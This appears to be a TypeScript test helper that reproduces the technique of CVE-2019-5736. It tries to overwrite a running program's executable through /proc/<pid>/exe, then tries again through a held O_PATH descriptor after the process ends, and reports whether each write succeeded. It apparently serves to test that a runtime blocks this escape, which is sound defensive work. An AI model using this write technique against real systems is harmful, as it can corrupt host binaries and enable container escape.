// What CVE-2019-5736 does: writes to the executable of a process, and again once nobody runs it.

import { closeSync, constants, openSync, writeSync } from 'node:fs';
import { close, reap, socketpair, spawn } from '../../src/native.ts';

/** How each of the two attempts ended: an errno's name, or `written`. The program must read its stdin to the end. */
export async function attack(program: string): Promise<string[]> {
  const [ours, theirs] = socketpair();
  const pid = spawn({ path: program, argv: ['cat'], env: [], fds: [theirs, null, null] });
  close(theirs);
  const outcomes: string[] = [];
  const tryToWrite = (path: string) => {
    try {
      const fd = openSync(path, constants.O_RDWR);
      writeSync(fd, 'owned');
      closeSync(fd);
      outcomes.push('written');
    } catch (error) {
      outcomes.push((error as NodeJS.ErrnoException).code!);
    }
  };
  tryToWrite(`/proc/${pid}/exe`);
  // O_PATH, which Node has no name for: a hold on the file, whatever becomes of the process.
  const hold = openSync(`/proc/${pid}/exe`, 0o10000000);
  close(ours);
  await reap(pid);
  tryToWrite(`/proc/self/fd/${hold}`);
  closeSync(hold);
  return outcomes;
}
